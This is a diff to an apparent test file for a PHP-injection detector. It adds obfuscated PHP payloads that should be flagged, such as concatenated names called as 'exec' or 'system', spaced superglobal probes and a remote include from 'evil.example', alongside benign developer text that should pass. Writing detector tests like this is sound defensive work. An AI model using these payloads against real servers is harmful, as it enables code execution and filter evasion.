@@ -50,6 +50,20 @@ CASES: tuple[Case, ...] = (
             "php_value auto_prepend_file /tmp/x",
             "include 'http://evil.example/shell.txt';",
             "$_=@\"$_\";$_=$_['!'=='@'];",
+            # a stray "=" between a built-in and "(", probes with no argument, spaced superglobals
+            "Shell_exec=(bla)",
+            "ZlIb_DeCoDe=(x)",
+            "date_ADD()",
+            "array_keys()",
+            "array_search/*x*/()",
+            "date_default_timezone_get()",
+            "$_S ERVER['REQUEST_URI'];",
+            "$_ G E T['cmd']",
+            "$_P O S T[\"x\"]",
+            # a name concatenated from pieces, one parenthesised, then called
+            "(sy.(st).em)(@id)",
+            "('ex'.('ec'))('id')",
+            "((sys).tem)('ls')",
         ),
         (
             "PHP developer wanted",
@@ -80,6 +94,16 @@ CASES: tuple[Case, ...] = (
             "php value for money",
             "include 'https://example.com' in your bio",
             "$_ = the default variable in Perl",
+            # PHP array code with arguments is a developer's snippet; SQL has date_add with arguments
+            "$items = array_merge($a, $b);",
+            "use array_keys to list them",
+            "date_add is a MySQL function",
+            "(U.S.A)(2020)",
+            "(Ph.D.)(2010)",
+            "result = (a.b)(c)",
+            "x = (obj.method)(arg)",
+            "My host disabled shell_exec, so the plugin fails",
+            "$_SERVER is a superglobal",
         ),
     ),
     Case(
